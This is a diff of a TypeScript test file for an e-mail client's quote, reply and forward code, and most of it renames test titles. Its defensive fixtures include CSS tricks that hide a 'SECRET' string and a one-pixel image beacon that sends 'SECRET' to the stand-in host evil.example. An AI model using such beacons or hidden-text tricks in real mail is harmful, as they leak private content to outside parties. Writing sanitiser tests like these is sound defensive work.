@@ -15,7 +15,7 @@ const email = (html: string | null, text: string | null = null): QuotedEmail => 
   date: Date.UTC(2026, 4, 1, 9, 30),
 })
 
-it('an answer says who wrote what, in HTML and in text', () => {
+it('quotes a reply with its author, in HTML and text', () => {
   const quote = quoteEmail('reply', email('<p>Hello</p><p>World</p>'))
   expect(quote.html).toMatch(
     /On Fri,? 1 May 2026,? .*"Lee, Ann" &lt;ann@a\.example&gt; wrote:<\/p><blockquote type="cite"/,
@@ -24,13 +24,13 @@ it('an answer says who wrote what, in HTML and in text', () => {
   expect(checkOutgoingHtml(quote.html)).toEqual([])
 })
 
-it('an e-mail without HTML is quoted by its text', () => {
+it('quotes an e-mail without HTML by its text', () => {
   const { html, text } = quoteEmail('replyAll', email(null, 'One\n\n> two <b>'))
   expect(html).toContain('two &lt;b&gt;')
   expect(text).toMatch(/wrote:\n> One\n>\n>> two <b>$/)
 })
 
-it('a forwarded one stands below its banner, and no header of it is markup', () => {
+it('puts a forwarded e-mail below a banner with escaped headers', () => {
   const { html, text } = quoteEmail('forward', email('<p>Hello</p>'))
   expect(text).toMatch(
     /^-{10} Forwarded message -{10}\nFrom: "Lee, Ann" <ann@a\.example>\nDate: .*\nSubject: A <b>subject<\/b>\nTo: Bo <bo@b\.example>\n\nHello$/,
@@ -39,8 +39,8 @@ it('a forwarded one stands below its banner, and no header of it is markup', () 
   expect(checkOutgoingHtml(html)).toEqual([])
 })
 
-describe('nothing goes out that the reader would not show', () => {
-  /** The letters and figures of what is seen, one behind the other: elements that part words may be gone. */
+describe('quoted text limited to what the reader shows', () => {
+  /** Visible letters and digits in sequence; separators between words may be missing. */
   const lettersOf = (html: string, within = 'body'): string => {
     const page = new DOMParser().parseFromString(html, 'text/html')
     for (const unseen of page.querySelectorAll('style, .linnet-quote > summary')) unseen.remove()
@@ -56,13 +56,13 @@ describe('nothing goes out that the reader would not show', () => {
     return true
   }
 
-  it.each(hostileCorpus('evil.example'))('of $name', ({ html }) => {
+  it.each(hostileCorpus('evil.example'))('matches the reader for $name', ({ html }) => {
     const quote = quoteEmail('reply', email(`${html}<p>kept</p>`))
     expect(checkOutgoingHtml(quote.html)).toEqual([])
     expect(quote.html).not.toMatch(/<(?:img|script|form|iframe|style)/i)
     const letters = lettersOf(quote.html, 'blockquote')
     const shown = lettersOf(sanitiseHtml(`${html}<p>kept</p>`).markup)
-    // Some of them swallow what follows.
+    // Some samples swallow what follows.
     expect(letters.includes('kept')).toBe(shown.includes('kept'))
     expect(isWithin(letters, shown), `${letters} in ${shown}`).toBe(true)
   })
@@ -82,7 +82,7 @@ describe('nothing goes out that the reader would not show', () => {
     '<style>@media all { p.pre, b { font-size: 0 } }</style><p class="pre">SECRET</p>',
     '<style>/* } */ p[title="}"] { color: red } .pre { visibility: hidden }</style><p class="pre">SECRET</p>',
     '<img src="https://evil.example/pixel?SECRET" width="1" height="1" alt="SECRET">',
-  ])('not hidden words: %s', (html) => {
+  ])('leaves out hidden text: %s', (html) => {
     const { html: sent, text } = quoteEmail('reply', email(`${html}<p>kept</p>`))
     expect(sent).toContain('kept')
     expect(sent + text).not.toContain('SECRET')
@@ -94,11 +94,11 @@ describe('nothing goes out that the reader would not show', () => {
     '<div style="background:#000"><p style="color:#fff">WORDS</p></div>',
     '<style>.dark { background-color: navy } .dark p { color: white }</style><div class="dark"><p>WORDS</p></div>',
     '<style>@keyframes a { from { opacity: 0 } } .a:hover { display: none }</style><p class="a">WORDS</p>',
-  ])('but what is seen is kept: %s', (html) => {
+  ])('keeps visible text: %s', (html) => {
     expect(quoteEmail('reply', email(`<p>kept</p>${html}`)).text).toContain('WORDS')
   })
 
-  it('remote pictures are named, and earlier e-mails that the reader folds are there', () => {
+  it('names remote pictures and includes folded earlier e-mails', () => {
     const { html, text } = quoteEmail(
       'reply',
       email(
